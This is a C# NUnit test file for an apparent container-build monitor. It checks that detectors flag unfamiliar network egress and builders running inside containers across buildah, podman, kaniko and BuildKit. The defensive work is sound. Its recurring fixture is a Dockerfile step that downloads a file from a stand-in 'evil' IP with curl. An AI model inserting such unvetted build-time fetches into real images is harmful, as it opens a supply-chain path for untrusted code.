using ImageSentinel.Detection;
using ImageSentinel.Detection.Builders;
using ImageSentinel.Detection.Builds;
using ImageSentinel.Detection.Detectors;
using ImageSentinel.Detection.Model;
using NUnit.Framework;

namespace ImageSentinel.Tests.Detection;

/// <summary>Builders that are not the host's engine: buildah, podman, executors, and builders in containers.</summary>
[TestFixture]
public sealed class BuilderScenarioTests
{
    private const string Download = "curl -o /x http://203.0.113.66/x";
    private const string Text = "FROM registry.example/base:1\nRUN " + Download + "\n";
    private const string Bundle = "/var/tmp/buildah123456";

    private static Scene Buildah(Scene scene, params string[] arguments) => scene
        .Run(Scene.Shell, 200, arguments)
        .Tell(new DockerfileFact(-1, "client:200", 200, Text));

    // The builder's re-executed part 210 calls the runtime 211; 213 is the instruction.
    private static Scene OciStep(Scene scene) => scene
        .Run(200, 210, "buildah-oci-runtime")
        .Run(210, 211, "crun", "--log", "/x", "create", "--bundle", Bundle, "--pid-file", "/p", "--no-new-keyring", "buildah-buildah123456")
        .Tell(new BundleFact(-1, "buildah123456", Bundle, ["/bin/sh", "-c", Download], "/", true, false, "", "", false, ""))
        .Fork(211, 213).Exec(213, 211, 0, "/bin/sh", "-c", Download)
        .Exit(211)
        .Run(213, 214, "curl", "-o", "/x", "http://203.0.113.66/x")
        .Connect(214);

    private static Scene OciStepEnds(Scene scene, int code = 0) => scene
        .Exit(214).Exit(213, code)
        .Run(210, 220, "crun", "delete", "buildah-buildah123456").Exit(220).Exit(210, code);

    private static Scene InContainer(Scene scene, int pid, params string[] arguments) => scene
        .Run(1, 500, "containerd-shim-runc-v2", "-namespace", "moby", "-id", Scene.Hex(7), "-address", "/x")
        .Tell(new ContainerFact(0, Scene.Hex(7), "ci/job:1", "sha256:" + Scene.Hex(8), ["x"], "n", true, "/log", "json-file", "default", false, "", "", [], "l", true, false, null))
        .Run(500, 501, "runc", "create", "--bundle", "/run/docker/moby/" + Scene.Hex(7), Scene.Hex(7))
        .Fork(501, pid).Exec(pid, 501, 0, arguments)
        .Exit(501);

    [TestCase("buildah", "bud", "-t", "app:1", "/ctx")]
    [TestCase("buildah", "--storage-driver", "vfs", "build", "--tag=app:1", "/ctx")]
    [TestCase("podman", "--root", "/s", "image", "build", "-t", "app:1", "/ctx")]
    public void A_build_without_a_daemon_names_who_runs_the_builder_and_its_steps_egress(params string[] command)
    {
        Scene scene = OciStepEnds(OciStep(Buildah(new Scene(), command))).Exit(200);

        Build build = scene.OnlyBuild;
        BuildStep step = build.Steps.Single();
        using (Assert.EnterMultipleScope())
        {
            Assert.That(build.Builder, Is.EqualTo(Builder.Buildah));
            Assert.That(build.Result, Is.EqualTo(BuildResult.Succeeded));
            Assert.That(build.Tags, Is.EqualTo(new[] { "app:1" }));
            Assert.That(build.BaseImages, Is.EqualTo(new[] { "registry.example/base:1" }));
            Assert.That(build.Clients.Single().Transport, Is.EqualTo(Transport.Local));
            Assert.That(build.Clients.Single().Process!.Pid, Is.EqualTo(200));
            Assert.That(step.Instruction, Is.EqualTo("RUN " + Download));
            Assert.That((step.Index, step.Total, step.ExitCode), Is.EqualTo((2, 2, (int?)0)));
            Assert.That(step.Egress.Single().Novelty, Is.EqualTo(Novelty.NeverSeen));
            Assert.That(scene.Findings.Select(static f => f.Detector), Is.EqualTo(new[] { DetectorDefinition.NeverSeenEgress }));
            Assert.That(build.Verdict, Is.EqualTo(Verdict.Suspicious));
        }
    }

    [Test]
    public void A_failing_step_fails_the_build_and_keeps_its_code()
    {
        Scene scene = OciStepEnds(OciStep(Buildah(new Scene(), "buildah", "bud", "/ctx")), 7).Exit(200, 125);

        Assert.That(scene.OnlyBuild.Result, Is.EqualTo(BuildResult.Failed));
        Assert.That(scene.OnlyBuild.Steps.Single().ExitCode, Is.EqualTo(7));
    }

    [Test]
    public void A_chroot_step_is_the_first_program_below_the_change_of_root()
    {
        Scene scene = Buildah(new Scene(), "buildah", "bud", "--isolation", "chroot", "-t", "app:1", "/ctx")
            .Run(200, 210, "buildah-chroot-runtime")
            .Run(210, 211, "buildah-chroot-exec").Exec(211, 210, 0, "buildah-chroot-exec")
            .Run(211, 212, "/bin/sh", "-c", Download)
            .Run(212, 213, "curl", "-o", "/x", "http://203.0.113.66/x").Connect(213)
            .Exit(213).Exit(212).Exit(211).Exit(210).Exit(200);

        BuildStep step = scene.OnlyBuild.Steps.Single();
        Assert.That(step.Index, Is.EqualTo(2));
        Assert.That(step.ExitCode, Is.Zero);
        Assert.That(step.Egress.Single().Process!.Arguments[0], Is.EqualTo("curl"));
    }

    [Test]
    public void A_renamed_builder_is_seen_by_what_runs_below_it()
    {
        Scene scene = OciStepEnds(OciStep(new Scene().Run(Scene.Shell, 200, "/opt/tool", "make-it"))).Exit(200).After(40_000);

        Assert.That(scene.OnlyBuild.Builder, Is.EqualTo(Builder.Buildah));
        Assert.That(scene.OnlyBuild.Clients.Single().Process!.Arguments, Is.EqualTo(new[] { "/opt/tool", "make-it" }));
        Assert.That(scene.OnlyBuild.Ended, Is.Not.Null);
        Assert.That(scene.Find("never-seen-egress"), Is.Not.Null);
    }

    [Test]
    public void The_moves_of_a_script_are_one_build()
    {
        Scene scene = new Scene()
            .Run(Scene.Shell, 190, "buildah", "from", "registry.example/base:1").Exit(190)
            .Run(Scene.Shell, 200, "buildah", "run", "base-working-container", "--", "sh");
        scene = OciStepEnds(OciStep(scene)).Exit(200)
            .Run(Scene.Shell, 230, "buildah", "commit", "base-working-container", "app:1").Exit(230);

        Build build = scene.OnlyBuild;
        Assert.That(build.Steps, Has.Count.EqualTo(1));
        Assert.That(build.BaseImages, Is.EqualTo(new[] { "registry.example/base:1" }));
        Assert.That(build.Tags, Is.EqualTo(new[] { "app:1" }));
        Assert.That(build.Result, Is.EqualTo(BuildResult.Succeeded));
    }

    [Test]
    public void What_the_builder_itself_reaches_is_its_builds_fetch()
    {
        Scene scene = Buildah(new Scene(), "buildah", "bud", "/ctx").Connect(200, "198.51.100.9", 443, exe: "/usr/bin/buildah").Exit(200);

        Assert.That(scene.OnlyBuild.Fetches.Single().Egress.Destination.ToString(), Does.Contain("198.51.100.9"));
        Assert.That(scene.Find("never-seen-egress"), Is.Not.Null);
    }

    [Test]
    public void A_listed_user_who_builds_with_podman_is_a_record_and_nothing_more()
    {
        CorePolicy policy = CorePolicy.Default with { TrustedClients = [new TrustedClient("ann", null, "", null, "", "")] };
        var scene = new Scene(policy);
        scene.Baseline.Learn(Scene.To(Scene.Evil), scene.Now);
        _ = OciStepEnds(OciStep(Buildah(scene, "podman", "build", "-t", "app:1", "/ctx"))).Exit(200);

        Assert.That(scene.Findings, Is.Empty);
        Assert.That(scene.OnlyBuild.Verdict, Is.EqualTo(Verdict.Clean));
    }

    [Test]
    public void An_unlisted_user_who_builds_with_podman_is_unexpected()
    {
        CorePolicy policy = CorePolicy.Default with { TrustedClients = [new TrustedClient("ci", null, "", null, "", "")] };
        Scene scene = Buildah(new Scene(policy), "podman", "build", "/ctx").Exit(200);

        Assert.That(scene.Find("build-by-unexpected-client")!.Severity, Is.EqualTo(Severity.Medium));
    }

    [Test]
    public void An_ordinary_podman_container_is_no_build()
    {
        string bundle = $"/var/lib/containers/storage/overlay-containers/{Scene.Hex(9)}/userdata";
        Scene scene = new Scene()
            .Run(Scene.Shell, 200, "podman", "run", "--rm", "alpine", "curl", "x")
            .Run(200, 210, "conmon", "-c", Scene.Hex(9))
            .Run(210, 211, "crun", "create", "--bundle", bundle, Scene.Hex(9))
            .Run(211, 212, "curl", "x").Connect(212).Exit(212).Exit(200).After(5000);

        Assert.That(scene.Builds, Is.Empty);
        Assert.That(scene.Findings, Is.Empty);
    }

    [Test]
    public void Buildah_in_a_container_is_a_builder_in_a_container()
    {
        Scene scene = OciStepEnds(OciStep(InContainer(new Scene(), 200, "buildah", "bud", "-t", "app:1", "/ctx"))).Exit(200);

        Finding finding = scene.Find("builder-in-container")!;
        Assert.That(finding.Severity, Is.EqualTo(Severity.High));
        Assert.That(finding.Message, Does.Contain("ci/job:1").And.Contains(Scene.Evil));
        Assert.That(scene.OnlyBuild.BuilderContainer, Is.EqualTo(Scene.Hex(7)));
        Assert.That(scene.OnlyBuild.Steps.Single().Egress.Single().Process!.ContainerId, Is.EqualTo(Scene.Hex(7)));
    }

    [Test]
    public void A_builder_in_a_podman_container_is_one_too()
    {
        string bundle = $"/var/lib/containers/storage/overlay-containers/{Scene.Hex(9)}/userdata";
        Scene scene = new Scene()
            .Run(Scene.Shell, 190, "podman", "run", "quay.example/buildah", "buildah", "bud", "/ctx")
            .Run(190, 191, "conmon", "-c", Scene.Hex(9))
            .Run(191, 192, "crun", "create", "--bundle", bundle, Scene.Hex(9))
            .Run(192, 200, "buildah", "bud", "/ctx").Exit(192);
        scene = OciStepEnds(OciStep(scene)).Exit(200);

        Assert.That(scene.OnlyBuild.BuilderContainer, Is.EqualTo(Scene.Hex(9)));
        Assert.That(scene.Find("builder-in-container"), Is.Not.Null);
    }

    [Test]
    public void An_executor_in_its_own_container_has_its_children_as_steps()
    {
        Scene scene = InContainer(new Scene(), 200, "/kaniko/executor", "--context", "dir:///workspace", "--destination=registry.example/app:1")
            .Run(200, 210, "/bin/sh", "-c", Download)
            .Run(210, 211, "curl", "-o", "/x", "http://203.0.113.66/x").Connect(211).Exit(211).Exit(210)
            .Run(200, 220, "/bin/sh", "-c", "echo second").Exit(220, 3).Exit(200, 1);

        Build build = scene.OnlyBuild;
        using (Assert.EnterMultipleScope())
        {
            Assert.That(build.Builder, Is.EqualTo(Builder.Kaniko));
            Assert.That(build.Steps.Select(static s => (s.Command, s.ExitCode)), Is.EqualTo(new[] { (Download, (int?)0), ("echo second", 3) }));
            Assert.That(build.Steps[0].Egress.Count(), Is.EqualTo(1));
            Assert.That(build.Result, Is.EqualTo(BuildResult.Failed));
            Assert.That(scene.Find("builder-in-container")!.Severity, Is.EqualTo(Severity.High));
        }
    }

    [Test]
    public void BuildKit_in_a_container_is_read_in_its_own_file_system_and_has_its_own_build()
    {
        string id = Scene.StepId(4);
        string bundle = $"/var/lib/buildkit/runc-overlayfs/executor/{id}";
        Scene scene = InContainer(new Scene(), 200, "buildkitd")
            .Client(250, "docker", "events")
            .Run(200, 300, "buildkit-runc", "--log", "/l", "run", "--bundle", bundle, "--keep", id);
        Assert.That(scene.Asked, Has.Some.EqualTo(new BundleLookup(0, id, bundle, 200)));

        scene.Tell(new BundleFact(0, id, bundle, ["/bin/sh", "-c", Download], "/", false, false, "", "", false, ""))
            .Run(300, 301, "/bin/sh", "-c", Download).Connect(301).Exit(301).Exit(300).After(40_000);

        Build build = scene.OnlyBuild;
        using (Assert.EnterMultipleScope())
        {
            Assert.That(build.Builder, Is.EqualTo(Builder.ContainerDriver));
            Assert.That(build.BuilderContainer, Is.EqualTo(Scene.Hex(7)));
            Assert.That(build.Clients.Single().Process!.Arguments[0], Is.EqualTo("buildkitd"), "a follower of events did not ask");
            Assert.That(build.Clients.Single().Confidence, Is.LessThan(1));
            Assert.That(scene.Find("builder-in-container")!.Severity, Is.EqualTo(Severity.High));
        }
    }

    [TestCase("podman run -it alpine sh")]
    [TestCase("podman --remote build .")]
    [TestCase("podman -c prod build .")]
    [TestCase("buildah images")]
    [TestCase("tar -d -f x")]
    public void Commands_that_build_nothing_here_open_nothing(string command)
        => Assert.That(BuilderCommand.Parse(command.Split(' '), inContainer: false), Is.Null);
}
